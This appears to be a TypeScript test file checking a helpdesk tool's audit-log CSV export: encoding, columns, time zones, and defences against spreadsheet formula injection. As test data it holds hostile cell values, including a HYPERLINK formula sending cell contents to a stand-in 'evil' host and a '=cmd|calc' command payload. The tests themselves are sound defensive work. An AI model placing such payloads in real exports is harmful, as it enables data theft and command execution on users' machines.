import { describe, expect, it } from 'vitest';
import type { AuditEntry } from '@/lib/audit/types';
import { auditCsv, localDateTime, type CsvWords } from '@/lib/helpdesk/audit-csv-file';

const words: CsvWords = {
  timeZone: 'Asia/Tokyo',
  header: (column, { timeZone }) => (column === 'when' ? `when (${timeZone})` : column),
  action: (action) => `did ${action}`,
  result: (result) => `result ${result}`,
  reason: (code) => `because ${code}`,
  verification: (verification) => (verification === 'code' ? 'code' : `other: ${verification}`),
};

function entry(changes: Partial<AuditEntry> = {}): AuditEntry {
  return {
    id: 7,
    at: new Date('2026-12-01T15:30:05.123Z'),
    requestId: 'req-1',
    accountId: null,
    actor: 'sato',
    actorName: 'Sato Kenji',
    subject: 'taro',
    action: 'access-key.deactivate',
    accessKeyId: 'AKIAEXAMPLE000000001',
    mfaDevice: 'taro-k3j9x2ab',
    keyName: null,
    ticket: 'INC-1',
    verification: 'code',
    outcome: 'ok',
    ...changes,
  };
}

/**
 * The cells of each line, undoing RFC 4180 quoting; throws on any cell that is not in double
 * quotes (every cell must be, so that a spreadsheet splitting on `;` still sees one cell).
 */
function parse(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < csv.length) {
    if (csv[i] !== '"') throw new Error(`unquoted cell at ${i}: ${JSON.stringify(csv.slice(i, i + 20))}`);
    let cell = '';
    i++;
    for (;;) {
      if (i >= csv.length) throw new Error('unterminated cell');
      if (csv[i] === '"' && csv[i + 1] === '"') {
        cell += '"';
        i += 2;
      } else if (csv[i] === '"') {
        i++;
        break;
      } else cell += csv[i++];
    }
    row.push(cell);
    if (csv[i] === ',') i++;
    else if (csv.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
    } else throw new Error(`junk after a cell at ${i}: ${JSON.stringify(csv.slice(i, i + 20))}`);
  }
  if (row.length) throw new Error('last line has no CRLF');
  return rows;
}

describe('the audit CSV', () => {
  it('starts with a UTF-8 byte-order mark and ends every line with CRLF', () => {
    const csv = auditCsv([entry()], words);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(Buffer.from(csv, 'utf8').subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv.slice(1).split('\r\n')).toHaveLength(3);
  });

  it('has the columns in the agent’s words, the time in their time zone, and the reason for a failure', () => {
    const [header, ok, failed] = parse(auditCsv([entry({ keyName: 'backup on my laptop' }), entry({ id: 8, outcome: 'iam-unavailable', verification: 'other: called back' })], words).slice(1));
    expect(header).toEqual(['id', 'when (Asia/Tokyo)', 'actorName', 'actor', 'subject', 'action', 'accessKeyId', 'keyName', 'mfaDevice', 'ticket', 'verification', 'result', 'reason', 'requestId']);
    expect(ok).toEqual(['7', '2026-12-02 00:30:05', 'Sato Kenji', 'sato', 'taro', 'did access-key.deactivate', 'AKIAEXAMPLE000000001', 'backup on my laptop', 'taro-k3j9x2ab', 'INC-1', 'code', 'result ok', '', 'req-1']);
    expect(failed?.slice(7, 8)).toEqual(['']);
    expect(failed?.slice(10, 13)).toEqual(['other: other: called back', 'result failed', 'because iam-unavailable']);
  });

  it('with several accounts, names each entry’s account in two last columns (and has none with one)', () => {
    const several = { ...words, accountName: (id: string | null) => (id === '210987654321' ? 'Sandbox' : '') };
    const [header, row] = parse(auditCsv([entry({ accountId: '210987654321' })], several).slice(1));
    expect(header?.slice(-3)).toEqual(['requestId', 'accountName', 'accountId']);
    expect(row?.slice(-2)).toEqual(['Sandbox', '210987654321']);
    const [single] = parse(auditCsv([entry()], words).slice(1));
    expect(single?.at(-1)).toBe('requestId');
  });

  it('keeps the settled outcomes apart from failures', () => {
    const rows = parse(auditCsv(['pending', 'interrupted', 'unconfirmed', 'rate-limited'].map((outcome) => entry({ outcome })), words).slice(1));
    expect(rows.slice(1).map((r) => [r[11], r[12]])).toEqual([
      ['result pending', ''],
      ['result interrupted', ''],
      ['result unconfirmed', ''],
      ['result failed', 'because rate-limited'],
    ]);
  });

  it('quotes every cell, so that a spreadsheet splitting on ";" cannot make a formula of part of one', () => {
    const csv = auditCsv([entry({ actorName: 'a;=HYPERLINK("http://evil/?"&A1;"x")', keyName: 'plain', ticket: 'b;+1', verification: 'other: called;@SUM(A1)' })], words).slice(1);
    const rows = parse(csv);
    expect(rows).toHaveLength(2);
    expect(rows.every((r) => r.length === 14)).toBe(true);
    expect(rows[1]?.[2]).toBe('a;=HYPERLINK("http://evil/?"&A1;"x")');
    expect(rows[1]?.[7]).toBe('plain');
    expect(rows[1]?.[9]).toBe('b;+1');
    // On the wire: the whole name inside one pair of quotes, and no cell outside quotes at all.
    expect(csv).toContain('"a;=HYPERLINK(""http://evil/?""&A1;""x"")"');
    expect(csv).toContain(',"plain",');
    expect(csv).toContain('"7",');
    // A ";" is never outside quotes, so no separator can start a cell there.
    expect(csv.replace(/"(?:[^"]|"")*"/g, '')).toMatch(/^[,\r\n]*$/);
  });

  it('defuses cells a spreadsheet would run as a formula, and keeps commas, quotes and line breaks inside one cell', () => {
    const names = ['=HYPERLINK("http://x")', '+1+1', '-2', '@SUM(A1)', '\tTab', 'a, "b"\nc'];
    const rows = parse(auditCsv(names.map((actorName) => entry({ actorName, ticket: null, accessKeyId: null, mfaDevice: null, verification: null })), words).slice(1));
    expect(rows.slice(1).map((r) => r[2])).toEqual(["'=HYPERLINK(\"http://x\")", "'+1+1", "'-2", "'@SUM(A1)", "'\tTab", 'a, "b"\nc']);
    expect(rows[1]?.slice(6, 11)).toEqual(['', '', '', '', '']);
    // A key's name is typed by the person: defused as well.
    expect(parse(auditCsv([entry({ keyName: '=cmd|calc' })], words).slice(1))[1]?.[7]).toBe("'=cmd|calc");
  });

  it('writes local times that spreadsheets read, across a change of date and of summer time', () => {
    expect(localDateTime(new Date('2026-12-31T23:59:59Z'), 'UTC')).toBe('2026-12-31 23:59:59');
    expect(localDateTime(new Date('2026-12-31T15:00:00Z'), 'Asia/Tokyo')).toBe('2027-01-01 00:00:00');
    expect(localDateTime(new Date('2026-07-01T12:00:00Z'), 'Europe/Berlin')).toBe('2026-07-01 14:00:00');
    expect(localDateTime(new Date('2026-01-01T12:00:00Z'), 'Europe/Berlin')).toBe('2026-01-01 13:00:00');
    expect(localDateTime(new Date('2026-06-01T00:00:00Z'), 'America/New_York')).toBe('2026-05-31 20:00:00');
  });
});
